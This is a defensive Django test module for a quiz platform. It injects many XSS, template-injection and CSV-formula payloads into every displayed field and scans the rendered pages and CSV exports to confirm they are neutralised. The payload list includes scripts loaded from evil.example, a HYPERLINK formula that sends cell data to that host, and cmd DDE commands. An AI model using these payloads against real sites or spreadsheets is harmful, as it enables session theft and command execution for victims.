"""Stored and reflected XSS, template injection and CSV formula injection.

Classic payloads go into every field that is displayed anywhere; then every page that
shows them is parsed, and nothing a payload could have introduced may appear as markup.
The world is built once per module inside a transaction that is rolled back at the end,
because building it (cards, versions, quizzes, cohorts) costs more than all the checks.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse

from apps.cohorts import services as cohorts
from apps.cohorts.models import Assignment, Cohort
from apps.content.answers import normal_text
from apps.content.models import Card, CardVersion, Deck
from apps.content.services import card_save
from apps.quiz import services as quiz
from apps.quiz.models import CardReport, QuizSession
from apps.quiz.reports import card_report_submit
from tests.conftest import instructors_group

PAYLOADS = [
    # script tags, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script/xss src="//evil.example/x.js"></script>',
    '<script type="text/javascript">alert(1);</script>',
    "</script><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # javascript: and data: URLs
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    # attribute breakouts
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" onfocus="alert(1)" autofocus="',
    "`><img src=x onerror=alert(1)>",
    # frames, objects and friends
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    # CSS
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1));">css</div>',
    '<span style="background-image: url(javascript:alert(1))">css</span>',
    # entities and closing tags of the surrounding markup
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\u202e<script>alert(1)</script>",
    # template injection
    "{{7*7}}",
    "{% debug %}",
    "{{1337*1337}} {{ request.META }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![img](x" onerror="alert(1))',
    "![img](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    # TeX commands that make links or attributes (KaTeX runs untrusted)
    "$\\href{javascript:alert(1)}{click}$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlData{onload=alert(1)}{x}$",
    # spreadsheet formulas, for the CSV exports
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

# User names may hold only letters, digits and @.+-_; these start like formulas.
USERNAMES = ["@alice+1", "-2+3", "+cmd", "@SUM", "-1+1@x.y", "..@@++--__"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEMPLATE_PAYLOADS = ["{{7*7}}", "{% debug %}"]

User = get_user_model()


# --- the scanner ---------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "lowsrc", "dynsrc",
    "codebase", "cite", "longdesc", "ping", "manifest", "icon", "to", "from", "values", "srcset",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
BAD_TAGS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "foreignobject", "animate",
    "animatemotion", "animatetransform", "set", "handler", "listener", "portal", "bgsound", "x", "xss",
    "noscript", "mglyph", "malignmark",
}  # fmt: skip
BAD_CSS = ("expression(", "javascript:", "url(", "behavior:", "-moz-binding", "@import")
# What evaluated template syntax would print: {{1337*1337}}, or {% debug %}'s dump of the context.
EVALUATED = ("1787569", "sql_queries", "'csrf_token':", "<django.")


class Scanner(HTMLParser):
    """Collects markup a payload could have introduced, and the page's visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._cdata: tuple[str, dict] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        where = self.get_starttag_text() or tag
        if tag in BAD_TAGS:
            self.problems.append(f"<{tag}> element: {where}")
        if tag == "script":
            src = values.get("src", "")
            is_data = values.get("type", "").lower() == "application/json" and not src
            same_site = src.startswith("/") and not src.startswith("//")
            if not is_data and not same_site:
                self.problems.append(f"script not served by the site: {where}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"meta http-equiv: {where}")
        if tag == "link" and not values.get("href", "").startswith("/"):
            self.problems.append(f"link to another origin: {where}")
        for name, value in values.items():
            if name.startswith("on") or name.startswith(("hx-on", "data-hx-on")):
                self.problems.append(f"event handler attribute {name}: {where}")
            if name == "srcdoc":
                self.problems.append(f"srcdoc attribute: {where}")
            if name in URL_ATTRIBUTES:
                # Browsers ignore whitespace and control characters inside and before a scheme.
                squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"{name}={value!r}: {where}")
            if name == "style" and any(bad in value.replace(" ", "").lower() for bad in BAD_CSS):
                self.problems.append(f"style attribute {value!r}: {where}")
        if tag in ("script", "style"):
            self._cdata = (tag, values)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._cdata = None

    def handle_endtag(self, tag: str) -> None:
        if self._cdata and self._cdata[0] == tag:
            self._cdata = None

    def handle_data(self, data: str) -> None:
        if self._cdata is None:
            self.text.append(data)
            return
        tag, values = self._cdata
        if tag == "script" and data.strip() and values.get("type", "").lower() != "application/json":
            self.problems.append(f"inline script: {data[:80]!r}")
        # Markup inside <style> is how namespace-confusion (mXSS) payloads smuggle elements.
        if tag == "style" and ("<" in data or any(bad in data.replace(" ", "").lower() for bad in BAD_CSS)):
            self.problems.append(f"style element: {data[:80]!r}")

    def visible_text(self) -> str:
        return " ".join(" ".join(self.text).split())


def scan(html: str) -> Scanner:
    scanner = Scanner()
    scanner.feed(html)
    scanner.close()
    text = scanner.visible_text()
    scanner.problems += [f"evaluated template syntax {mark!r} in the text" for mark in EVALUATED if mark in text]
    return scanner


def flat(text: str) -> str:
    return " ".join(text.split())


@dataclass
class Report:
    """Problems across many pages, reported together so one run shows them all."""

    problems: list[str] = field(default_factory=list)
    pages: int = 0

    def check(self, response, where: str, *, expect: tuple[str, ...] = (), statuses=(200,)) -> Scanner:
        self.pages += 1
        if response.status_code not in statuses:
            self.problems.append(f"{where}: status {response.status_code}")
        scanner = scan(response.content.decode())
        self.problems += [f"{where}: {problem}" for problem in scanner.problems]
        text = scanner.visible_text()
        self.problems += [f"{where}: {wanted!r} is not shown as text" for wanted in expect if flat(wanted) not in text]
        return scanner

    def assert_clean(self, minimum_pages: int) -> None:
        assert self.pages >= minimum_pages, f"only {self.pages} pages were checked"
        assert not self.problems, f"{len(self.problems)} problems:\n" + "\n".join(self.problems[:60])


def test_the_scanner_sees_raw_payloads():
    """The checks below pass only if markup is neutralised, not because the scanner is blind."""
    # Not markup on their own: Markdown and TeX need rendering first, and a few target naive filters
    # ("<scr<script>ipt>" is a harmless element until a filter strips the inner tag once).
    # "<img src=`x`onerror=…>" relied on old Internet Explorer treating backticks as quotes.
    inert_raw = ("[", "!", "<javascript", "<![CDATA", "<scr<", "<img src=`", "$", "`", "&")
    raw_markup = [p for p in PAYLOADS if re.search(r"<\s*\w", p) and not p.startswith(inert_raw)]
    missed = [p for p in raw_markup if not scan(p).problems]
    assert not missed, missed
    assert len(raw_markup) >= 40
    assert scan("<p>{{1337*1337}} is 1787569</p>").problems
    assert not scan('<script src="/static/js/quiz.js" defer></script><a href="/x">x</a>').problems


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 30
    assert len(set(PAYLOADS)) == len(PAYLOADS)


# --- the world -----------------------------------------------------------------------------


@dataclass
class World:
    instructor: object
    superuser: object
    student: object
    others: list
    decks: list[Deck]
    cards: list[Card]
    cohort: Cohort
    cohorts: list[Cohort]


def _user(username: str, **fields):
    # No password: hashing one per user would cost more than the whole module's checks.
    return User.objects.create_user(username=username, email=f"{len(username)}-{username}@example.com", **fields)


def _build_world() -> World:
    for name in USERNAMES:
        User.username_validator(name)  # only names the site itself would accept
    instructor = _user("carol", is_staff=True, first_name=PAYLOADS[0][:150], last_name=PAYLOADS[8][:150])
    instructor.groups.add(instructors_group())
    superuser = User.objects.create_superuser(username="root", email="root@example.com", password=None)
    student = _user(USERNAMES[0], first_name=PAYLOADS[30][:150], last_name=PAYLOADS[31][:150])
    others = [
        _user(name, first_name=PAYLOADS[i][:150], last_name=PAYLOADS[-i][:150])
        for i, name in enumerate(USERNAMES[1:], 1)
    ]

    decks, cards = [], []
    for i, payload in enumerate(PAYLOADS):
        # Numbered: payloads that differ only in letter case would be two decks of one title.
        deck = Deck.objects.create(title=f"{payload[:190]} {i}", slug=f"xss-{i}", description=payload)
        kind = Card.Kind.FLASHCARD if i % 2 == 0 else Card.Kind.SYLLABUS
        card = card_save(
            card=Card(deck=deck, position=1, kind=kind, question=f"Question {i}", answer=f"Answer {i}"),
            author=instructor,
        )
        # A second version puts the payload in every field, so the version diff shows it too.
        card.question = card.answer = card.explanation = payload
        card.short_answer = payload[:300]
        card_save(
            card=card,
            author=instructor,
            note=payload[:200],
            aliases=[payload[:300]],
            distractors=[f"{payload} ·1", f"·2 {payload}", f"{payload} ·3"],
            key_terms=[payload[:200]],
        )
        decks.append(deck)
        cards.append(card)

    cohort = cohorts.cohort_create(name=PAYLOADS[-5], instructor=instructor)
    for deck in decks:
        Assignment.objects.create(cohort=cohort, deck=deck)
    for user in (student, *others):
        cohorts.cohort_join(student=user, code=cohort.join_code)
    # One instructor has one cohort of a name, letter case aside: a payload that differs from another only so,
    # or repeats the main cohort's, gets a mark after it, itself intact.
    seen: set[str] = set()
    names = []
    for payload in PAYLOADS:
        name = payload[:116]
        while name.strip().lower() in seen | {PAYLOADS[-5].strip().lower()}:
            name += " ·2"
        seen.add(name.strip().lower())
        names.append(name)
    named = [cohorts.cohort_create(name=name, instructor=instructor) for name in names]
    for each in named:
        cohorts.cohort_join(student=student, code=each.join_code)

    for i, deck in enumerate(decks):
        choice = quiz.session_start(user=student, deck=deck, size=1, mode="choice", order="new")
        item = choice.items.get()
        wrong = (item.correct_option + 1) % len(item.options) if item.mode == "choice" else None
        submission = quiz.Submission(option=wrong) if item.mode == "choice" else quiz.Submission(response="no idea")
        quiz.answer_submit(user=student, session_id=choice.pk, position=1, submission=submission)
        recall = quiz.session_start(user=student, deck=deck, size=1, mode="recall", order="new")
        response = PAYLOADS[(i + 1) % len(PAYLOADS)][:2000]
        quiz.answer_submit(
            user=student, session_id=recall.pk, position=1, submission=quiz.Submission(response=response)
        )
        if i % 2:
            quiz.answer_override(user=student, session_id=recall.pk, position=1, verdict="correct")
    for n, user in enumerate(others):
        deck = decks[n]
        session = quiz.session_start(user=user, deck=deck, size=1, mode="recall", order="new")
        quiz.answer_submit(
            user=user, session_id=session.pk, position=1, submission=quiz.Submission(response=PAYLOADS[-n - 1])
        )
        card_report_submit(user=user, item=session.items.get(), message=PAYLOADS[n][:1000])
    return World(instructor, superuser, student, others, decks, cards, cohort, named)


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        yield _build_world()
        transaction.set_rollback(True)


def _client(user=None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


HTMX = {"HTTP_HX_REQUEST": "true"}
pytestmark = pytest.mark.django_db


# --- pages -----------------------------------------------------------------------------------


def test_content_pages(world):
    report = Report()
    for client, who in ((_client(), "anonymous"), (_client(world.student), "student")):
        report.check(client.get(reverse("content:home")), f"home as {who}", expect=(world.decks[0].title,))
        for deck, card in zip(world.decks, world.cards, strict=True):
            report.check(client.get(deck.get_absolute_url()), f"deck {deck.slug} as {who}", expect=(deck.title,))
            report.check(client.get(deck.get_absolute_url(), {"answers": "shown"}), f"deck {deck.slug} answers")
            report.check(client.get(card.get_absolute_url()), f"card {deck.slug} as {who}")
    report.assert_clean(minimum_pages=6 * len(PAYLOADS))


def test_template_syntax_is_shown_literally(world):
    client = _client()
    for payload in TEMPLATE_PAYLOADS:
        card = world.cards[PAYLOADS.index(payload)]
        text = scan(client.get(card.get_absolute_url()).content.decode()).visible_text()
        # Question, answer and explanation each show it as typed (evaluated, it would read "49" or a context dump).
        assert text.count(payload) >= 3, text


def test_quiz_pages_full_and_partial(world):
    """Question, feedback (after an answer and after an override) and summary, as pages and as HTMX partials."""
    report = Report()
    client = _client(world.student)
    for i, deck in enumerate(world.decks):
        report.check(client.get(reverse("quiz:start", args=[deck.slug])), f"start {deck.slug}", expect=(deck.title,))
        for mode in ("choice", "recall"):
            session = quiz.session_start(user=world.student, deck=deck, size=1, mode=mode, order="random")
            url = reverse("quiz:session", args=[session.pk])
            item_url = reverse("quiz:item", args=[session.pk, 1])
            where = f"{deck.slug} {mode}"
            page = client.get(url)
            report.check(page, f"question page {where}")
            report.check(client.get(url, **HTMX), f"question partial {where}")
            token = re.search(r'name="token" value="([^"]+)"', page.content.decode())[1]
            item = session.items.get()
            if item.mode == "choice":
                data = {"token": token, "option": str((item.correct_option + 1) % len(item.options))}
                expect: tuple[str, ...] = ()
            else:
                data = {"token": token, "response": PAYLOADS[-i - 1]}
                expect = (PAYLOADS[-i - 1].strip(),)
            report.check(client.post(item_url, data, **HTMX), f"feedback partial {where}", expect=expect)
            report.check(client.get(item_url), f"feedback page {where}", expect=expect)
            if item.mode == "recall":
                override = client.post(reverse("quiz:override", args=[session.pk, 1]), {"verdict": "correct"}, **HTMX)
                report.check(override, f"override partial {where}", expect=expect)
            report.check(client.get(url), f"summary page {where}")
            report.check(client.get(url, **HTMX), f"summary partial {where}")
    report.check(client.get(reverse("quiz:review")), "review start page")
    report.assert_clean(minimum_pages=14 * len(PAYLOADS))


def test_student_progress_and_cohort_pages(world):
    report = Report()
    client = _client(world.student)
    names = tuple(cohort.name for cohort in world.cohorts[:5])
    report.check(client.get(reverse("quiz:progress")), "my progress", expect=(world.cohort.name, *names))
    report.check(client.get(reverse("cohorts:list")), "cohort list (student)", expect=names)
    for cohort in world.cohorts:
        invite = reverse("cohorts:invite", args=[cohort.join_code])
        report.check(client.get(invite), f"invite page {cohort.pk}", expect=(cohort.name,))
        report.check(_client().get(invite), f"invite page {cohort.pk} (anonymous)", expect=(cohort.name,))
    report.assert_clean(minimum_pages=2 * len(PAYLOADS))


def test_account_pages(world):
    """One's own name (a payload here) in the details form, and the cohorts one owns (payload names) on the page
    that says what deleting the account does to them."""
    report = Report()
    student, instructor = _client(world.student), _client(world.instructor)
    report.check(student.get(reverse("account")), "account page (student)", expect=(world.student.username,))
    report.check(instructor.get(reverse("account")), "account page (instructor)")
    names = tuple(cohort.name for cohort in world.cohorts[:5])
    report.check(instructor.get(reverse("account_delete")), "delete account page (instructor)", expect=names)
    report.assert_clean(minimum_pages=3)


def test_instructor_dashboards(world):
    report = Report()
    client = _client(world.instructor)
    cohort = world.cohort
    url = reverse("cohorts:dashboard", args=[cohort.pk])
    report.check(client.get(reverse("cohorts:list")), "cohort list (instructor)", expect=(cohort.name,))
    for tab in ("matrix", "items", "charts"):
        for sort in ("", "-name", "accuracy", f"deck-{world.decks[3].pk}-accuracy", "-attempts", "discrimination"):
            params = {"tab": tab, "sort": sort}
            report.check(client.get(url, params), f"dashboard {params}", expect=(cohort.name,))
            report.check(client.get(url, params, **HTMX), f"dashboard partial {params}")
    report.check(client.get(url, {"flag": "any"}), "dashboard flagged")
    for each in world.cohorts:
        report.check(
            client.get(reverse("cohorts:dashboard", args=[each.pk])), f"dashboard {each.pk}", expect=(each.name,)
        )
        report.check(client.get(reverse("cohorts:manage", args=[each.pk])), f"manage {each.pk}")
    report.check(
        client.get(reverse("cohorts:manage", args=[cohort.pk])),
        "manage (members)",
        expect=tuple(user.username for user in world.others),
    )
    for user in (world.student, *world.others):
        detail = reverse("cohorts:student", args=[cohort.pk, user.pk])
        for page in (1, 2, 3, 4):
            report.check(
                client.get(detail, {"page": page}), f"student {user.username} page {page}", expect=(user.username,)
            )
    report.assert_clean(minimum_pages=2 * len(PAYLOADS) + 40)


def _csv_problems(response, where: str) -> list[str]:
    assert response.status_code == 200, where
    assert response["Content-Type"].startswith("text/csv"), where
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    problems = []
    for number, row in enumerate(rows, 1):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                problems.append(f"{where} row {number}: {cell[:60]!r}")
    return problems


def test_csv_exports_neutralise_formulas(world):
    client = _client(world.instructor)
    matrix = client.get(reverse("cohorts:export_matrix", args=[world.cohort.pk]))
    items = client.get(reverse("cohorts:export_items", args=[world.cohort.pk]))
    problems = _csv_problems(matrix, "matrix.csv") + _csv_problems(items, "items.csv")
    assert not problems, "\n".join(problems)
    # The neutralised cells are still there, prefixed, so nothing was silently dropped.
    matrix_text, items_text = matrix.content.decode(), items.content.decode()
    for name in USERNAMES:
        assert ("'" + name if name.startswith(FORMULA_STARTS) else name) in matrix_text
    assert "'=HYPERLINK(" in items_text and "'@SUM(1+1)" in items_text and "'+cmd|" in items_text
    assert "<script>alert(1)</script>" in items_text  # CSV is not HTML: text stays as typed


def test_admin_pages(world):
    report = Report()
    client = _client(world.instructor)
    report.check(client.get(reverse("admin:index")), "admin index")
    cards_url = reverse("admin:content_card_changelist")
    report.check(client.get(cards_url), "card change list")
    for payload in PAYLOADS[::5]:
        report.check(client.get(cards_url, {"q": payload}), f"card search {payload[:30]!r}")
    report.check(client.get(reverse("admin:content_deck_changelist")), "deck change list")
    report.check(client.get(reverse("admin:quiz_cardreport_changelist")), "card reports")
    for card_report in CardReport.objects.all():
        report.check(
            client.get(reverse("admin:quiz_cardreport_change", args=[card_report.pk])), f"report {card_report.pk}"
        )
    for deck, card in zip(world.decks, world.cards, strict=True):
        change = reverse("admin:content_card_change", args=[card.pk])
        report.check(client.get(change), f"card form {deck.slug}")
        report.check(client.get(reverse("admin:content_deck_change", args=[deck.pk])), f"deck form {deck.slug}")
        version = CardVersion.objects.filter(card=card).order_by("-number").first()
        report.check(client.get(reverse("admin:content_cardversion_change", args=[version.pk])), f"version {deck.slug}")
    report.assert_clean(minimum_pages=3 * len(PAYLOADS))


def test_admin_preview_and_grader(world):
    report = Report()
    client = _client(world.instructor)
    preview_url = reverse("admin:content_card_preview")
    for payload, card in zip(PAYLOADS, world.cards, strict=True):
        fields = {"question": payload, "answer": payload, "explanation": payload}
        report.check(client.post(preview_url, fields, **HTMX), f"preview {payload[:30]!r}")
        grader = reverse("admin:content_card_try_grader", args=[card.pk])
        report.check(client.post(grader, {"response": payload}, **HTMX), f"grader partial {payload[:30]!r}")
        report.check(client.post(grader, {"response": payload}), f"grader page {payload[:30]!r}")
    # The change form's Preview button posts the whole form back; nothing is saved.
    card = world.cards[0]
    for payload in PAYLOADS:
        data = {
            "deck": card.deck_id, "position": card.position, "kind": card.kind, "question": payload,
            "answer": payload, "short_answer": payload[:300], "explanation": payload, "_preview": "1",
            **{f"{prefix}-{key}": value for prefix in ("aliases", "distractors", "key_terms")
               for key, value in (("TOTAL_FORMS", "0"), ("INITIAL_FORMS", "0"))},
        }  # fmt: skip
        response = client.post(reverse("admin:content_card_change", args=[card.pk]), data)
        report.check(response, f"change form preview {payload[:30]!r}")
    report.assert_clean(minimum_pages=4 * len(PAYLOADS))


def test_admin_users_with_payload_names(world):
    report = Report()
    client = _client(world.superuser)
    report.check(client.get(reverse("admin:auth_user_changelist")), "user change list")
    for user in (world.instructor, world.student, *world.others):
        report.check(client.get(reverse("admin:auth_user_change", args=[user.pk])), f"user {user.username}")
    report.check(client.get(reverse("admin:content_card_changelist")), "card list (superuser)")
    report.assert_clean(minimum_pages=len(USERNAMES) + 2)


def _own_word(term: str) -> str:
    """The payload as a key term each of whose |-separated synonyms has a word the question lacks."""
    return "|".join(f"{synonym} zylophant" for synonym in term.split("|"))


def _asked_once(payloads: list[str]) -> list[str]:
    """The payloads as a deck's questions, each asked once as a deck must (letter case aside): a payload that differs
    from an earlier one only in case ("JaVaScRiPt:") is asked with " again" after it."""
    seen: set[str] = set()
    questions = []
    for payload in payloads:
        questions.append(payload if normal_text(payload) not in seen else f"{payload} again")
        seen.add(normal_text(questions[-1]))
    return questions


def _deck_file(payloads: list[str]) -> bytes:
    cards = [
        {
            "uid": f"00000000-0000-4000-8000-{n:012d}", "position": n + 1, "kind": "flashcard", "question": question,
            "answer": payload, "short_answer": payload[:300], "explanation": payload, "archived": False,
            # a distractor that is the answer is refused, and a key term that only repeats the question: the
            # payload goes in with a word of its own
            "aliases": [payload[:300]], "distractors": [f"not {payload}"], "key_terms": [_own_word(payload[:180])],
        }
        for n, (payload, question) in enumerate(zip(payloads, _asked_once(payloads), strict=True))
    ]  # fmt: skip
    data = {
        "format": "mlcourse-deck", "version": 1, "cards": cards,
        # a title of its own (the world's decks hold the payloads as theirs), the payload in it all the same
        "deck": {"slug": "imported-xss", "title": f"Imported {payloads[0]}", "description": payloads[1],
                 "source": payloads[2]},
    }  # fmt: skip
    return json.dumps(data).encode()


# Links, styles and the like inside maths are refused (katex_worker.js): a file with them lists its problems.
REFUSED_IN_MATHS = ("\\href", "\\url", "\\html", "\\includegraphics")


def test_deck_import_dry_run_report(world):
    report = Report()
    client = _client(world.instructor)
    accepted = [payload for payload in PAYLOADS if not any(command in payload for command in REFUSED_IN_MATHS)]
    for name in ('"><img src=x onerror=alert(1)>.json', "<script>alert(1)</script>.json"):
        upload = SimpleUploadedFile(name, _deck_file(accepted), content_type="application/json")
        response = client.post(reverse("admin:content_deck_import"), {"file": upload})
        report.check(response, f"import dry run {name!r}")
    refused = SimpleUploadedFile("all.json", _deck_file(PAYLOADS), content_type="application/json")
    response = client.post(reverse("admin:content_deck_import"), {"file": refused})
    report.check(response, "import refusing maths commands", statuses=(422,))
    broken = SimpleUploadedFile("x.json", b'{"format": "<script>alert(1)</script>"}')
    report.check(client.post(reverse("admin:content_deck_import"), {"file": broken}), "import error", statuses=(422,))
    report.assert_clean(minimum_pages=3)
    assert not Deck.objects.filter(slug="imported-xss").exists()


def test_forms_echo_input_as_text(world, settings):
    """Reflected input: every form that re-displays what was typed, and the messages after a success."""
    # Every payload is a wrong join code, from one address and one student: each must reach the form, not the limit.
    settings.JOIN_RATE = settings.JOIN_ACCOUNT_RATE = "1000/h"
    report = Report()
    for i, payload in enumerate(PAYLOADS):
        anonymous = Client()
        ip = f"198.51.100.{i % 250}"
        signup = anonymous.post(
            reverse("signup"),
            {"username": payload, "email": payload, "password1": "x", "password2": "y", "next": payload},
            REMOTE_ADDR=ip,
        )
        report.check(signup, f"signup {i}", statuses=(422,))
        login = anonymous.post(
            reverse("login"), {"username": payload[:150], "password": "x", "next": payload}, REMOTE_ADDR=ip
        )
        report.check(login, f"login {i}", statuses=(422, 429))
        report.check(anonymous.get(reverse("login"), {"next": payload}), f"login next {i}")
        reset = anonymous.post(reverse("password_reset"), {"email": payload}, REMOTE_ADDR=ip)
        report.check(reset, f"password reset {i}", statuses=(422, 429))
        code = quote(payload.replace("/", ""), safe="")
        report.check(anonymous.get(f"/join/{code}/"), f"invite link {i}", statuses=(404, 200))
    student = _client(world.student)
    instructor = _client(world.instructor)
    for i, payload in enumerate(PAYLOADS):
        report.check(student.post(reverse("cohorts:join"), {"code": payload}), f"join code {i}", statuses=(422,))
        report.check(
            student.get(f"/join/{quote(payload.replace('/', ''), safe='')}/"), f"invite link {i}", statuses=(404, 200)
        )
        bad = instructor.post(reverse("cohorts:create"), {"name": payload[:120], "instructors": payload})
        report.check(bad, f"create with unknown instructor {i}", statuses=(422,))
        # The world's instructor has a cohort of nearly every payload's name already: that refusal too.
        taken = instructor.post(reverse("cohorts:create"), {"name": world.cohorts[i].name, "instructors": ""})
        report.check(taken, f"create with a name taken {i}", statuses=(422,))
        teacher = _user(f"creator{i}", is_staff=True)  # one of their own, so the name is free
        teacher.groups.add(instructors_group())
        creator = _client(teacher)
        created = creator.post(reverse("cohorts:create"), {"name": payload[:120], "instructors": ""})
        made = creator.get(created["Location"])
        report.check(made, f"created cohort {i}", expect=(payload[:120].strip(),))
        cohort = Cohort.objects.get(pk=re.search(r"/cohorts/(\d+)/", created["Location"])[1])
        manage = creator.post(
            reverse("cohorts:manage", args=[cohort.pk]), {"name": payload[:120], "instructors": payload}
        )
        report.check(manage, f"manage with unknown instructor {i}", statuses=(422,))
        joined = student.post(reverse("cohorts:join"), {"code": cohort.join_code}, follow=True)
        # The name is text of its own (isolated in <bdi>), so the scanner reads the full stop as a separate word.
        report.check(joined, f"joined message {i}", expect=(f"You joined {payload[:120].strip()} .",))
    report.assert_clean(minimum_pages=10 * len(PAYLOADS))


def test_the_quiz_world_is_complete(world):
    """Guards the other tests from passing vacuously: the payloads really are stored and answered."""
    assert QuizSession.objects.filter(user=world.student).count() == 2 * len(PAYLOADS)
    assert Card.objects.filter(question__in=PAYLOADS).count() == len(PAYLOADS)
    kinds = set(
        world.student.answers.values_list("mode", flat=True)  # both question types were answered
    )
    assert kinds == {"choice", "recall"}
